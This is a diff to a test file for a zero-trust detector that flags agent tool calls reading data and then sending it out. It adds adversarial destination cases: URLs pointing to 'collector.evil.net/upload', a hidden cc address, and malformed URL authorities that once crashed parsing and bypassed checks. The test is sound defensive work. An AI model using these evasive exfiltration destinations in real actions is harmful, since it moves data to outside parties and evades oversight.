@@ -157,10 +157,13 @@ def test_zerotrust_no_toxic_flow_for_internal_or_correspondent_or_other_task(
 
 
 def test_zerotrust_toxic_flow_adversarial_destinations(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
-    # a URL whose user-info names an internal host, a destination hidden in a cc list, upper case
+    # a URL whose user-info names an internal host, a destination hidden in a cc list, upper case; URLs with a
+    # malformed authority, which urlsplit refuses (it raised, and the event lost every check: found by fuzzing)
     for task, args in [
         ("a", {"url": "https://ourcorp.example@collector.evil.net/upload"}),
         ("b", {"to": "ap@ourcorp.example", "cc": ["Drop@FILES-Transfer.example.net"]}),
+        ("c", {"url": "https://collector.evil.net]/upload"}),
+        ("d", {"url": "https://[collector.evil.net/upload"}),
     ]:
         read = _call(ev, "data-analyst", "db.query", {"sql": "select 1"}, task=task)
         send = _call(ev, "data-analyst", "http.post", args, task=task)
